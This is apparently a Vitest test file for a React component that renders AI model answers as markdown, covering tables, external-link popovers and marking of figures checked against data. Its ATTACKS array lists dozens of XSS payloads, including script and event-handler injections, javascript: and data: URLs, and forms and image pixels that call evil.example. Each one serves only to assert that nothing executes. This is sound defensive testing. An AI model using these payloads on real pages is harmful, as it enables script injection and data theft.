import { createRemixStub } from "@remix-run/testing";
import { cleanup, fireEvent, render, screen, within } from "@testing-library/react";
import { afterEach, describe, expect, test, vi } from "vitest";
import type { NumberMark } from "#agents/contracts/messages.ts";
import { AnswerText } from "./answer-text.tsx";
import type { OpenEvidence } from "./figure-mark.tsx";

afterEach(cleanup);

function show(text: string, marks: NumberMark[] | null = [], onEvidence: OpenEvidence | null = null): HTMLElement {
  const Stub = createRemixStub([{ path: "/", Component: () => <AnswerText text={text} marks={marks} onEvidence={onEvidence} /> }]);
  return render(<Stub initialEntries={["/"]} />).container;
}

const verified = (text: string, value: number): NumberMark => ({ text, value, status: "verified", callId: "call-1", source: "revenue" });

describe("what an answer may be made of", () => {
  test("headings, lists, bold words, code and quotes are drawn; every heading stands below the question's", () => {
    const box = show("# One\n\n**bold** and *soft* and `code`\n\n- a\n- b\n\n1. c\n\n> said\n\n---");
    expect([...box.querySelectorAll("h1,h2,h3")].map((heading) => heading.tagName)).toEqual(["H3"]);
    expect(box.querySelectorAll("li")).toHaveLength(3);
    for (const name of ["strong", "em", "code", "blockquote", "hr"]) expect(box.querySelector(name), name).not.toBeNull();
  });

  test("tables of GitHub's kind are tables, with what stands before them and with bold cells", () => {
    const box = show("Here:\n| Genre | Revenue |\n| :--- | ---: |\n| Hard **bop** | 6,812 |\n| Cool | 3,268 |\n\nAfter.");
    const rows = within(box).getAllByRole("row").map((row) => [...row.children].map((cell) => cell.textContent));
    expect(rows).toEqual([
      ["Genre", "Revenue"],
      ["Hard bop", "6,812"],
      ["Cool", "3,268"],
    ]);
    expect(box.querySelector("td strong")?.textContent).toBe("bop");
    expect(box.querySelector("td:last-child")?.className).toBe("num");
    expect([...box.querySelectorAll("p")].map((p) => p.textContent)).toEqual(["Here:", "After."]);
  });

  test("bars in a sentence make no table", () => {
    expect(show("a | b\nc | d").querySelector("table")).toBeNull();
    expect(show("a | b\n--- | --- | ---\n1 | 2").querySelector("table")).toBeNull();
  });

  test("a page of ours is a link; another site shows its whole address before it opens", () => {
    const box = show("See [the orders](/orders?p=7) or [the prices](https://example.org/a?b=c).");
    expect(within(box).getByRole("link", { name: "the orders" }).getAttribute("href")).toBe("/orders?p=7");
    const foreign = within(box).getByRole("button", { name: /^the prices ?, another site: example\.org$/ });
    const note = box.querySelector(`[id="${foreign.getAttribute("popovertarget")}"]`);
    expect(note?.textContent).toContain("https://example.org/a?b=c");
    const away = note?.querySelector("a");
    expect(away?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(away?.getAttribute("target")).toBe("_blank");
  });
});

/** Ways to make a page run, fetch or look like something. Each is one answer of a model. */
const ATTACKS = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 1'>",
  "<svg onload='window.pwned = 1'></svg>",
  "<svg><animate onbegin='window.pwned = 1' attributeName=x dur=1s></svg>",
  "<iframe src='javascript:window.pwned=1'></iframe>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<object data='data:text/html,x'></object>",
  "<embed src='data:text/html,x'>",
  "<form action='https://evil.example'><input name=password><button>Go</button></form>",
  "<style>body { background: url(https://evil.example/x) }</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<a href='javascript:window.pwned=1'>x</a>",
  "<details open ontoggle='window.pwned = 1'><summary>x</summary></details>",
  "<video><source onerror='window.pwned = 1'></video>",
  "<math><mtext></table></math><img src=x onerror='window.pwned = 1'>",
  "text <b onclick='window.pwned = 1'>x</b> <span style='position:fixed;inset:0'>y</span>",
  "[x](javascript:window.pwned=1)",
  "[x](JaVaScRiPt:window.pwned=1)",
  "[x](<java\tscript:window.pwned=1>)",
  "[x](&#106;avascript:window.pwned=1)",
  "[x](javascript&colon;window.pwned=1)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](https://desk@evil.example/)",
  "[x][1]\n\n[1]: javascript:window.pwned=1",
  "<javascript:window.pwned=1>",
  "<https://evil.example/auto>",
  "![alt words](https://evil.example/pixel.gif)",
  "![alt words](data:image/svg+xml,<svg/onload=alert(1)>)",
  "![x](https://evil.example/?stolen=1 \"t\")",
  "[![alt words](https://evil.example/p.gif)](https://evil.example)",
  "![a][1]\n\n[1]: https://evil.example/p.gif",
  "`<script>window.pwned = 1</script>`",
  "```html\n<img src=x onerror='window.pwned = 1'>\n```",
  "| a |\n|---|\n| <img src=x onerror='window.pwned = 1'> |",
  "| [x](javascript:window.pwned=1) | b |\n|---|---|\n| ![z](https://evil.example/p.gif) | 1 |",
  "<!-- --><script>window.pwned = 1</script>",
  "<![CDATA[<script>window.pwned = 1</script>]]>",
  "</div></section><script>window.pwned = 1</script>",
  "<data value='<img src=x onerror=1>'>5</data>",
  "<button class='n ok'>€5</button>",
  "\u202egnp.exe [x](//evil.example)",
];

test.each(ATTACKS)("%j runs nothing, fetches nothing and makes no element of its own", (attack) => {
  const box = show(attack, []);
  expect((window as { pwned?: unknown }).pwned).toBeUndefined();
  expect(box.querySelectorAll("script,img,svg,iframe,object,embed,form,input,style,link,meta,base,video,audio,source,math,picture,details")).toHaveLength(0);
  for (const element of box.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name, attack).not.toMatch(/^on|^style$|^srcdoc$|^formaction$/i);
      if (name === "src" || name === "href") expect(value, attack).toMatch(/^(\/(?![/\\])|https?:\/\/)/);
    }
    // Another site is reached only from the note that shows its address.
    if (element.tagName === "A" && element.getAttribute("href")?.startsWith("http")) expect(element.closest("[popover]"), attack).not.toBeNull();
  }
  expect(box.querySelector("button.n")).toBeNull();
});

describe("figures", () => {
  test("that stand in the data are marked quietly and open their evidence", () => {
    const open = vi.fn<OpenEvidence>();
    show("Revenue was **€25,846.20**, as often in March 2026.", [verified("€25,846.20", 25846.2)], open);
    const figure = screen.getByRole("button", { name: /^€25,846\.20 ?, in the data: show where$/ });
    fireEvent.click(figure);
    expect(open).toHaveBeenCalledWith({ text: "€25,846.20", callId: "call-1", source: "revenue" }, figure);
    expect(screen.getAllByRole("button")).toHaveLength(1);
  });

  test("that were not found are marked visibly, those of the question not at all", () => {
    const box = show("The 10 best took 31% of 41 orders.", [
      { text: "10", value: 10, status: "question", callId: null, source: null },
      { text: "31%", value: 31, status: "unverified", callId: null, source: null },
      verified("41", 41),
    ]);
    expect(box.querySelector(".n.no")?.textContent).toBe("31%?, not found in the data");
    expect(box.querySelectorAll(".n")).toHaveLength(1);
    expect(box.textContent).toContain("The 10 best");
  });

  test("are all open while nothing is known yet, and a part of a longer number is none", () => {
    const box = show("In 1,941 orders 41 copies.", null);
    expect([...box.querySelectorAll(".n.wait")].map((figure) => figure.textContent)).toEqual(["1,941", "41"]);
    cleanup();
    const known = show("In 1,941 orders 41 copies.", [verified("41", 41)], vi.fn<OpenEvidence>());
    expect(within(known).getAllByRole("button")).toHaveLength(1);
  });

  test("in links and code stay text", () => {
    expect(show("[order 5,120](/orders/5120) and `limit 10`", [verified("5,120", 5120), verified("10", 10)], vi.fn<OpenEvidence>()).querySelectorAll(".n")).toHaveLength(0);
  });
});
